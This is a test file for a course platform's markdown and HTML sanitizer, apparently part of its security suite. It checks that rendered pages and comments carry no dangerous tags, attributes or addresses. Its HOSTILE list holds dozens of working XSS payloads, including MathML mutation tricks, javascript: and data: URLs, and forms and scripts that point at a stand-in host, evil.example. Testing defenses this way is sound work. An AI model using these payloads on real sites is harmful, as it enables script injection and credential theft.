"""What authors and learners write, and that nothing hostile in it survives."""

import html.parser
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from courses.content.clean import MATHML_TAGS, TAGS, clean_html
from courses.content.embeds import NotAllowed, embed_url
from courses.content.links import CourseLinks
from courses.content.markdown import MAX_CHARACTERS, TooLong, plain_text, render, render_comment
from courses.content.maths import to_mathml

# The addresses a page may carry; everything else is a way to run or to fetch something.
SAFE_ADDRESS = re.compile(r"(https?://|mailto:|/(?![/\\])|#)")


class Inspector(html.parser.HTMLParser):
    """Collects what is dangerous in a piece of HTML, by the letter of the allow-list."""

    def __init__(self, markup):
        super().__init__()
        self.faults = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag, attrs):
        if tag not in TAGS:
            self.faults.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcdoc", "xlink:href", "action", "formaction"):
                self.faults.append(f"{tag}[{name}]")
            if name in ("href", "src") and not SAFE_ADDRESS.match(value or ""):
                self.faults.append(f"{tag}[{name}={value}]")
            if tag in MATHML_TAGS and name in ("href", "src"):
                self.faults.append(f"{tag}[{name}]")

    def handle_comment(self, data):
        self.faults.append("comment")

    def handle_decl(self, decl):
        self.faults.append("declaration")


def faults(markup):
    return Inspector(markup).faults


def rendered(source):
    return render(source, links=CourseLinks(None)).html


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='  java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a href='/\t/evil.example'>x</a>",
    "[x](javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='x.swf'></object><embed src='x.swf'>",
    "<form action='https://evil.example'><input name=password><button>Go</button></form>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    # Ways through MathML.
    "<math><maction actiontype='statusline#https://x' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<math><semantics><annotation encoding='text/html'><img src=x onerror=alert(1)></annotation></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mtext><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<math><ms><script>alert(1)</script></ms></math>",
    "<math><mtext><a href='javascript:alert(1)'>x</a></mtext></math>",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\text{<script>alert(1)</script>}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$$\\style{position:fixed}{x}$$",
    "$\\class{x}{\\id{csrf}{y}}$",
    "<h2 id='csrfmiddlewaretoken'>x</h2>",
    "<a id='location'>x</a>",
    "::: question <img src=x onerror=alert(1)>\ny\n:::",
    "::: note <script>alert(1)</script>\ny\n:::",
    "```<script>alert(1)</script>\n<script>alert(1)</script>\n```",
    "```html\n<script>alert(1)</script>\n```",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
]


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_input_is_disarmed(source):
    assert faults(rendered(source)) == []
    assert faults(render_comment(source)) == []


@pytest.mark.parametrize("source", HOSTILE)
def test_cleaning_what_is_clean_changes_nothing(source):
    """A page's browser parses the output again: a second pass that found something would be a way through."""
    once = rendered(source)
    assert clean_html(once, links=CourseLinks(None)) == once


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.sampled_from([*HOSTILE, "\n", "\n\n", "> ", "- ", "text", "$", "`", "<math>", "</p>"]), max_size=8
    )
)
def test_hostile_pieces_stay_disarmed_in_any_order(pieces):
    assert faults(rendered("".join(pieces))) == []


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=400))
def test_any_text_renders(source):
    markup = rendered(source)
    assert faults(markup) == []
    assert "\x00" not in markup
    render_comment(source)


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=r"\{}[]()^_&$%#~ abx12frac\left\right\begin{matrix}\end", max_size=80))
def test_any_formula_renders(latex):
    assert to_mathml(latex, display=True)


@pytest.mark.parametrize(
    "latex", ["{" * 5000, r"\left(" * 300, "^" * 10, r"\frac" * 500, r"\begin{matrix}" * 100]
)
def test_a_formula_that_explodes_is_shown_as_its_source(latex):
    assert "math-error" in to_mathml(latex)


def test_too_long_a_text_is_refused_with_a_sentence():
    with pytest.raises(TooLong, match="longer than 200,000 characters"):
        rendered("x" * (MAX_CHARACTERS + 1))


def test_what_authors_may_write():
    page = rendered(
        "# Loops\n\nA `for` loop, $x^2$ and $$\\frac{a}{b}$$ and a note[^1].\n\n"
        "| a | b |\n|:--|--:|\n| 1 | 2 |\n\n```python\nfor x in y:\n    pass\n```\n\n"
        "::: tip Remember *this*\nIt ends.\n:::\n\n::: question Why?\nBecause.\n:::\n\n~~old~~\n\n"
        "[^1]: A note."
    )
    for part in (
        '<h2 id="h-loops">Loops</h2>',
        "<code>for</code>",
        "<msup><mi>x</mi><mn>2</mn></msup>",
        'display="block"',
        '<th class="align-right" scope="col">b</th>',
        '<div class="highlight" data-language="Python">',
        '<span class="k">for</span>',
        '<div class="callout callout--tip" role="note"><p class="callout__title">Remember <em>this</em></p>',
        '<details class="question"><summary>Why?</summary>',
        "<s>old</s>",
        'class="footnote-ref"',
    ):
        assert part in page


def test_prices_are_not_formulas():
    assert "<math" not in rendered("It costs $5 or $6 a month.")


def test_a_comparison_in_a_formula_survives():
    assert "<mo>&lt;</mo>" in rendered("$a<b$")
    assert "a&lt;b" in rendered(r"$\text{if a<b}$")


def test_footnotes_of_two_blocks_have_ids_of_their_own():
    first, second = rendered("a[^1]\n\n[^1]: one"), rendered("b[^1]\n\n[^1]: two")
    ids = re.compile(r' id="([^"]+)"')
    assert not set(ids.findall(first)) & set(ids.findall(second))


def test_headings_that_repeat_get_different_ids():
    assert re.findall(r'id="(h-[^"]+)"', rendered("# Same\n\n# Same")) == ["h-same", "h-same-2"]


def test_comments_have_no_images_headings_or_html():
    page = render_comment(
        "# Loud\n\n![x](https://example.org/x.png) <b>bold</b> **strong** [a](https://a.example)"
    )
    assert "<h" not in page
    assert "<img" not in page
    assert "<b>" not in page
    assert "<strong>strong</strong>" in page
    assert 'rel="noopener noreferrer nofollow ugc"' in page


def test_plain_text_keeps_words_apart():
    assert plain_text("<ul><li>one</li><li>two</li></ul><p>th<em>re</em>e</p>") == "one two three"


def test_missing_things_are_named_for_the_author():
    problems = render(
        "![](images/a.png) [x](files/b.pdf) [y](lesson:nowhere)", links=CourseLinks(None)
    ).problems
    assert any("images/a.png" in sentence for sentence in problems)
    assert any("files/b.pdf" in sentence for sentence in problems)
    assert any("lesson:nowhere" in sentence for sentence in problems)
    assert any("alternative text" in sentence for sentence in problems)


@pytest.mark.parametrize(
    ("address", "expected"),
    [
        ("https://www.youtube.com/watch?v=abcdefghijk", "https://www.youtube-nocookie.com/embed/abcdefghijk"),
        ("https://youtu.be/abcdefghijk", "https://www.youtube-nocookie.com/embed/abcdefghijk"),
        ("https://vimeo.com/12345", "https://player.vimeo.com/video/12345"),
        ("https://player.vimeo.com/video/12345", "https://player.vimeo.com/video/12345"),
    ],
)
def test_known_players_are_embedded(address, expected):
    assert embed_url(address) == expected


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "http://player.vimeo.com/video/1",
        "https://player.vimeo.com.evil.example/",
        "https://evil.example/",
        "https://player.vimeo.com@evil.example/",
        "https://user@player.vimeo.com/video/1",
        "//player.vimeo.com/video/1",
        "https://[",
        "",
    ],
)
def test_other_pages_are_not_embedded(address):
    with pytest.raises(NotAllowed):
        embed_url(address)


def test_a_table_with_an_empty_corner_names_its_rows():
    markup = rendered("| | Before | After |\n|---|---|---|\n| Reading | 83 | 40 |\n| Recall | 71 | 61 |\n")
    assert re.findall(r'<th scope="(\w+)">(\w+)', markup) == [
        ("col", "Before"), ("col", "After"), ("row", "Reading"), ("row", "Recall"),
    ]  # fmt: skip
    assert 'scope="row"' not in rendered("| Way | Before |\n|---|---|\n| Reading | 83 |\n")
